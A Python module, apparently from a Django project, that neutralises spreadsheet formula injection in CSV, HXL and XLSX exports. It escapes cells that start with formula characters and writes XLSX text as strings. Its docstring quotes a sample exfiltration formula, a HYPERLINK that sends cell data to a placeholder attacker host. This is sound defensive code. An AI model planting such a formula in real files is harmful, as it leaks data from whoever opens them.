"""Cells that a spreadsheet shows as text, never runs: every CSV, HXL and XLSX we write.

A partner's text such as `=HYPERLINK("http://evil.example/?x="&A2,"Open")` would otherwise run
in the spreadsheet of whoever opens the export (OWASP "CSV injection"). CSV and HXL cells that
begin with `=`, `+`, `-`, `@`, a tab or a carriage return get a leading `'`, which spreadsheets
read as "this is text" (the OWASP rule); XLSX cells holding text are written as strings, never
as formulas. Numbers, dates and empty cells are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

from django.utils.functional import Promise

__all__ = ["FORMULA_STARTS", "csv_cell", "csv_lines", "csv_row", "xlsx_row"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """The value, with a leading `'` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


class _Line:
    """A file-like whose write hands back the line, so csv.writer can feed a generator."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """CSV text one line at a time, every cell neutralised."""
    writer = csv.writer(_Line())
    for row in rows:
        yield writer.writerow(csv_row(row))


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for `sheet.append`: text as string cells (never formulas), the rest as values.

    openpyxl reads any text beginning with `=` as a formula; a cell whose data type is set to
    string after its value is written as an inline string whatever it begins with. Works for
    write-only and ordinary worksheets alike.
    """
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        if isinstance(value, Promise):  # a lazily translated text: openpyxl cannot take it
            value = str(value)
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            cells.append(cell)
        else:
            cells.append(value)
    return cells
